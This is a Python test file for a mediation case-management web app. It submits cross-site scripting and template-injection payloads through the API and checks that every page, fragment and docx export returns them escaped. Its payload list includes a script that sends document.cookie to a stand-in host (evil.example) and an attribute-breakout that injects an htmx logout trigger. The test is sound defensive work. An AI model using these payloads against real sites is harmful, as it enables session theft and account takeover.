"""Script and HTML injection attacked: hostile payloads go into every text field a user can type — intake
(title, summary, party names and addresses) and the transitions' free text (notes, session records,
agreement terms) — and every page that shows the case must return them escaped, never as markup."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from factories import PASSWORD, happy_path, make_town
from fastapi.testclient import TestClient
from markupsafe import escape

from mediation_flow.store.config import get_settings
from web.app import create_app

PAYLOADS = [
    "<script>alert('xss')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(document.cookie)>",
    "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
    '<a href="javascript:alert(1)">点我</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "<style>body{display:none}</style>&lt;已转义&gt;",
    '" hx-get="/logout" hx-trigger="load',
]
PAGES = ["/cases", "/my", "/queue", "/dashboard", "/notices"]
# title, summary, 2 party names, address, transition note, session content/location/participants,
# agreement facts/terms/performance
TEXT_FIELDS = 12
REGIONS = ["state", "facts", "actions", "clocks", "timeline"]


def _steps(payload: str) -> list[tuple[str, dict[str, object]]]:
    """The happy path up to the agreement, with the payload in every free-text field."""
    steps = [(trigger, dict(data)) for trigger, data in happy_path()[:4]]
    steps[2][1].update(content=payload, location=payload[:100], participants=payload)
    steps[3][1].update(facts=payload, terms=payload, performance=payload)
    return steps


def _page_client(app) -> TestClient:
    client = TestClient(app, follow_redirects=False)
    token = re.search(r'name="csrf_token" value="([^"]+)"', client.get("/login").text).group(1)
    signed = client.post("/login", data={"username": "supervisor", "password": PASSWORD, "csrf_token": token})
    assert signed.status_code == 303
    return client


@pytest.fixture
def app(sqlite_engine, tmp_path, monkeypatch):
    monkeypatch.setattr(get_settings(), "data_dir", tmp_path)
    make_town(sqlite_engine)
    return create_app(sqlite_engine)


def test_every_payload_in_every_text_field_comes_back_escaped(app):
    api = TestClient(app)
    token = api.post("/api/v1/auth/token", data={"username": "mediator", "password": PASSWORD}).json()
    headers = {"Authorization": f"Bearer {token['access_token']}"}  # registers, accepts (and is assigned), mediates
    case_ids = {}
    for payload in PAYLOADS:
        created = api.post(
            "/api/v1/cases",
            headers=headers,
            json={
                "title": f"纠纷{payload}"[:200],
                "category": "neighbourhood",
                "source": "initiative",
                "summary": payload,
                "parties": [
                    {"role": "applicant", "name": payload[:100], "address": payload[:200]},
                    {"role": "respondent", "name": f"李{payload}"[:100]},
                ],
            },
        )
        assert created.status_code == 201, created.text
        case_id, version = created.json()["id"], 1
        for trigger, data in _steps(payload):
            moved = api.post(
                f"/api/v1/cases/{case_id}/transitions",
                headers=headers,
                json={"trigger": trigger, "expected_version": version, "data": data, "note": payload},
            )
            assert moved.status_code == 200, moved.text
            version = moved.json()["version"]
        case_ids[payload] = case_id

    browser = _page_client(app)
    checked = 0
    for payload, case_id in case_ids.items():
        urls = [f"/cases/{case_id}"] + [f"/cases/{case_id}/part/{r}" for r in REGIONS] + PAGES
        shown_escaped = 0
        for url in urls:
            for fragment in (False, True):
                response = browser.get(url, headers={"HX-Request": "true"} if fragment else {})
                assert response.status_code == 200, (url, response.status_code)
                checked += 1
                assert payload not in response.text, (payload, url, fragment)
                shown_escaped += response.text.count(str(escape(payload)))
        assert shown_escaped >= 5, (payload, shown_escaped)  # title, summary, parties, notes, agreement
        docx = browser.get(f"/cases/{case_id}/print/registration.docx")
        xml = zipfile.ZipFile(io.BytesIO(docx.content)).read("word/document.xml").decode()
        assert payload not in xml or "<" not in payload  # Word XML escapes it as well
        checked += 1
    print(f"\nXSS: {len(PAYLOADS)} payloads x {TEXT_FIELDS} text fields, {checked} responses checked")
